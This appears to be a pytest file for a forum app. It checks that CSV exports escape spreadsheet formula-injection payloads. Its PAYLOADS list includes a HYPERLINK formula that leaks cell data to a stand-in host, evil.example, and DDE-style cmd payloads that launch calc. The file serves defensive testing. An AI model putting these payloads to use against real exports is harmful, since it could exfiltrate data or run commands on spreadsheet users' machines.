"""Spreadsheet formula injection (issue 13, point 4): every CSV export goes through
forum/spreadsheet.py, and no cell of one starts with = + - @, a tab or a carriage return."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import forum
from forum.accounts.models import Role, User
from forum.board.models import Topic
from forum.extensions import db
from forum.moderation import services as moderation
from forum.polls import services as polls

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


def assert_no_formula(text: str, payloads) -> None:
    values = cells(text)
    for value in values:
        assert not value.startswith(TRIGGERS), value
    for payload in payloads:
        assert "'" + payload in values, payload  # kept, shown as text


def test_poll_results_csv(app, client, make, login):
    author = make.user(role=Role.STAFF)
    topic = make.topic(author=author)
    with app.app_context():
        poll = polls.create_poll(db.session.get(User, author.id),
                                 db.session.get(Topic, topic.id), "=1+1 question", PAYLOADS)
        db.session.commit()
        poll_id = poll.id
    login(author)
    response = client.get(f"/polls/{poll_id}/results.csv")
    assert response.status_code == 200
    assert_no_formula(response.text, ["=1+1 question", *PAYLOADS])


def test_moderation_log_csv(app, client, make, login):
    mod = make.user(role=Role.MODERATOR)
    topic = make.topic(title="-Minus title")
    with app.app_context():
        for i, payload in enumerate(PAYLOADS[:4]):
            moderation.lock_topic(db.session.get(User, mod.id), db.session.get(Topic, topic.id),
                                  i % 2 == 0, payload)
        db.session.commit()
    login(mod)
    response = client.get("/moderation/log.csv")
    assert response.status_code == 200
    assert_no_formula(response.text, PAYLOADS[:4])


def test_every_csv_is_written_by_the_one_helper():
    root = Path(forum.__file__).parent
    writers = [str(path.relative_to(root)) for path in root.rglob("*.py")
               if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text())]
    assert writers == ["spreadsheet.py"], writers
